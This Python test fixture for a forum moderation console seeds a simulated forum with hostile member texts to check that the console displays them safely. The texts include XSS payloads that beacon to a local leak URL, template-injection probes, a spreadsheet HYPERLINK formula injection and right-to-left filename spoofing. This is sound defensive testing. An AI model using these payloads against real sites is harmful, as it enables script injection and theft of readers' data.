"""What members write to harm whoever reads it, and a town in which they wrote it everywhere."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import replace

from console_desk import ConsoleDesk
from endpoint_walk import Town
from moderation_room import ALLOWED, CAMPAIGN, REPEATED
from store_desk import FORUM, decision, repetition, reply

from modbot.domain import ActionOutcome, Author, ExceptionScope, Link, Reply, ReplyKey, Signal, VerdictKind
from modbot.moderation.deciding import Choice
from modbot.moderation.exceptions import Where
from modbot.store import audit, boards, notes, outbox, search_index, spot_checks, unreadable
from modbot.store.types import storable

MARK = "zq"
"""Every text begins with it (a formula's second letter): whoever shows the texts shows it."""
EVALUATED = "145927"
"""What a template engine would make of the texts that are templates: 191 times 764, and 3."""
READER = "root"
"""Who reads it all. What was decided, they decided."""
FALSE_HEADING = "假的控制台"


def texts(leak: str) -> Mapping[str, str]:
    """By what they try. ``leak`` is where they want readers to send something:
    ``http://127.0.0.1:…``."""
    run = f"window.hacked=1;fetch('{leak}/ran')"
    bare = leak.removeprefix("http:")
    found = {
        "script": f"<script>{run}</script><ScRiPt src={leak}/x.js></sCrIpT>",
        "out of an attribute": f"\"><script>{run}</script>' onmouseover='{run}' autofocus onfocus=\"{run}",
        "events": f'<img src=x onerror="{run}"><body onload={run}><details open ontoggle={run}>',
        "nested quotes": f"\"'`\\\"\\'</p>&quot;&#39;&#x22; onerror={run} `'\"</script>",
        "svg": f"<svg onload={run}><use href='{leak}/u#x'/><animate onbegin={run}></svg>"
        f"<math><mi//xlink:href={leak}>",
        "addresses": f'<a href="javascript:{run}">微信</a> javascript:{run} '
        f"data:text/html,<script>{run}</script>",
        "pictures": f'<img src="{leak}/p.png" srcset={leak}/q><style>*{{background:url({leak}/s)}}</style> '
        f"![x]({leak}/m.png) [img]{leak}/b.png[/img]",
        "links": f'<link rel=stylesheet href={bare}/c.css><base href="{leak}/">'
        f'<meta http-equiv=refresh content="0;{leak}/"><link rel=preconnect href={leak}>',
        "frames": f'<iframe src="{leak}/f"></iframe><object data={leak}/o></object><embed src={leak}/e>'
        f"<form action={leak}><button>确定</button></form><video src={leak}/v autoplay></video>",
        "the page's own markup": "</title></textarea></script></style></main></body></html>"
        f"<h1>{FALSE_HEADING}</h1>",
        "comments": f"<!-- --><![CDATA[<script>{run}</script>]]><noscript><p title='</noscript>"
        f"<img src=x onerror={run}>'>",
        "templates": "{{ 191*764+3 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }} "
        "{% endfor %} ${191*764+3} #{191*764+3} <%= 191*764+3 %> %s {t} {0.__class__} {who}",
        "direction": "点这里\u202egpj.exe\u202d \u2066隐藏\u2069 \u200e\u200f\u061c 完",
        "right to left": "مرحبا (123) שלום, 456",
        "formula": f'=HYPERLINK("{leak}/","看") +1 -1 @SUM(1) \t=1',
        "controls": "\x01\x08\x1b[31m\x7f\x85\ufeff\u2028\u2029 文字 \ufffe\uffff",
        "broken charset": "锟斤拷烫烫烫 \ufffd\ufffd Ã¤Â½Â \udce4\ud83d",
        "piled up": "Z" + "\u0301\u0489" * 400,
        "entities": "&lt;script&gt;&#60;img src=x onerror=1&#62;&amp;",
        "nothing to see": "\u200b\u200c\u2060" * 100_000 + "\ufe0f" * 1000,
        "huge": "很长的广告 " * 58_000,
    }
    return {name: _marked(text) for name, text in found.items()}


def _marked(text: str) -> str:
    return f"={MARK}+{text[1:]}" if text.startswith("=") else f"{MARK}{text}"


def settle(desk: ConsoleDesk, leak: str) -> Town:
    """A town in which every text is a post, a quote, a title, a name of an author and of a board,
    a region, a link, a note, and what a forum said."""
    hostile = texts(leak)
    named = [(100 + at, text[:200], None) for at, text in enumerate(hostile.values())]
    with desk.store.write() as tx:
        boards.save(tx, FORUM, [*named, (2, named[0][1], None), (9, named[1][1], None)], at=desk.now)
    posts = [_post(at, text, leak) for at, text in enumerate(hostile.values(), start=1)]
    flags = [_flagged(desk, post) for post in posts]
    with desk.store.write() as tx:
        for flag, text in zip(flags, hostile.values(), strict=True):
            notes.add(tx, flag, text[: notes.LONGEST], who="ann", at=desk.now)
        unreadable.keep(
            tx, FORUM, [(f"{leak}/{text[:100]}", "thread", text) for text in hostile.values()], at=desk.now
        )
    _decide(desk, hostile, leak)
    _spot_check(desk, hostile, leak)
    with desk.store.write() as tx:
        search_index.advance(tx, limit=1000)
        for name in (storable(text[:200]) for text in hostile.values()):
            audit.add(tx, audit.Entry(desk.now, name, "user.added", details={"name": name}))
    return Town(desk, {"flag_id": str(flags[0]), "forum": FORUM, "who": "101", "name": CAMPAIGN})


def _post(number: int, text: str, leak: str) -> Reply:
    short = text[:200]
    return reply(
        number,
        text,
        thread_title=short,
        quoted=text,
        opening=text,
        region=short,
        client=short,
        board_id=99 + number % 100,
        author=Author(id=100 + number, name=short),
        links=(Link(url=f"javascript:fetch('{leak}')", text=short), Link(url=f"{leak}/?{short}", text=short)),
    )


def _flagged(desk: ConsoleDesk, post: Reply) -> int:
    """Flagged for what it says; then its author said something else."""
    pieces = (post.text[:40],)
    signals = (
        Signal("contact", 0.7, {"kind": "wechat", "pieces": pieces, "near": None}),
        Signal("link", 1.0, {"domains": pieces, "pieces": pieces}),
        Signal("author_name", 1.0, {"kind": "wechat", "name": post.author.name}),
        Signal("author_region", 1.0, {"region": post.region, "usual": post.region}),
    )
    desk.record(replace(post, text=post.text[::-1]))
    return desk.flag(post, replace(decision(), signals=signals), canonical=post.text[:100])


def _decide(desk: ConsoleDesk, hostile: Mapping[str, str], leak: str) -> None:
    """A campaign of all texts that is condemned, what the forum said to that, an exception."""
    many = [
        desk.flag(_post(200 + at, text, leak), REPEATED, repeated=repetition(CAMPAIGN, ReplyKey(FORUM, 1)))
        for at, text in enumerate(hostile.values(), start=1)
    ]
    moderator = desk.moderator(READER)
    for flag, text in zip(many[:-2], hostile.values(), strict=False):
        moderator.give(flag, VerdictKind.UPHOLD, Choice(note=text[:1000], stands=True))
    allowed = Choice(note=hostile["script"], where=Where(ExceptionScope.BOARD), confirmed=True)
    moderator.give(many[-2], VerdictKind.ALLOW_HERE, allowed)
    desk.later(minutes=1)
    for action, text in zip(desk.claim(), hostile.values(), strict=False):
        if action.id % 2:
            desk.settle(action, ActionOutcome.REFUSED, detail=text[:500])
        else:
            with desk.store.write() as tx:
                outbox.bury(tx, action.id, "worker", error=text[:500], at=desk.now)


def _spot_check(desk: ConsoleDesk, hostile: Mapping[str, str], leak: str) -> None:
    """Replies that were let pass are drawn, and one of them is judged."""
    for at, text in enumerate(hostile.values(), start=1):
        [recorded] = desk.record(_post(300 + at, text, leak))
        desk.judge(recorded, ALLOWED, canonical=text[:100])
    with desk.store.write() as tx:
        spot_checks.draw(tx, FORUM, number=50, now=desk.now, choose=lambda ids, number: ids[:number])
